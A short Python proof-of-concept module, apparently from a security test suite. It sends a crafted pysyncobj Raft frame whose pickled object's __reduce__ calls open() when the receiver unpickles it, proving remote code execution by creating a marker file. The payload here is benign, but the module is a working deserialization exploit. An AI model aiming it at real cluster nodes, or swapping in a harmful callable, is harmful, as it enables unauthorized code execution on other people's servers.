"""A crafted pysyncobj frame whose unpickling creates a file: proof of code execution."""

from __future__ import annotations

import socket
import struct
import time
import zlib
from pathlib import Path


class Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.marker, "w"))


def frame(marker: Path) -> bytes:
    import pickle

    data = zlib.compress(pickle.dumps(Payload(marker)), 3)
    return struct.pack("i", len(data)) + data


def send_pickle(address: str, marker: Path, wait_s: float = 1.0) -> None:
    """Connect to a Raft port, send the frame several ways (as a first message and after a
    plausible hello), and give the receiver ``wait_s`` to act on it."""
    host, _, port = address.rpartition(":")
    for _ in range(2):
        try:
            with socket.create_connection((host, int(port)), timeout=2) as sock:
                sock.sendall(frame(marker) * 3)
                time.sleep(wait_s / 2)
        except OSError:
            pass
